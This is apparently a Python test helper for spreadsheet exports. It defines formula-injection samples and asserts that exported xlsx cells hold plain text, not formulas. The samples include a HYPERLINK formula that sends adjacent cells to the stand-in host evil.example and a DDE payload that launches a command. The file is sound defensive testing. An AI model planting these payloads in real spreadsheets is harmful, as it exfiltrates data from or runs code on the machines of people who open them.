"""What the export tests of every service put into a workbook and look for in it."""

from __future__ import annotations

from io import BytesIO

from openpyxl import load_workbook

# Text a spreadsheet would run as a formula, were it written as one: a link that sends
# the cells beside it away (the text a dept_head put in a ledger item), a DDE call, and
# the other starts Excel and LibreOffice take for a formula.
FORMULA_LINK = '=HYPERLINK("http://evil.example/x?d="&B3&C3,"查看附件")'
FORMULA_TEXTS = (
    FORMULA_LINK,
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,1)",
)


def workbook_cells(content: bytes) -> list:
    """Every cell of every sheet of an xlsx file, read as a spreadsheet program reads it."""
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_text_only(content: bytes, *texts: str) -> None:
    """No cell of the workbook is a formula, and each of `texts` is a cell's whole text."""
    cells = workbook_cells(content)
    formulas = [f"{cell.coordinate}: {cell.value}" for cell in cells if cell.data_type == "f"]
    assert formulas == []
    values = {cell.value for cell in cells}
    assert [text for text in texts if text not in values] == []
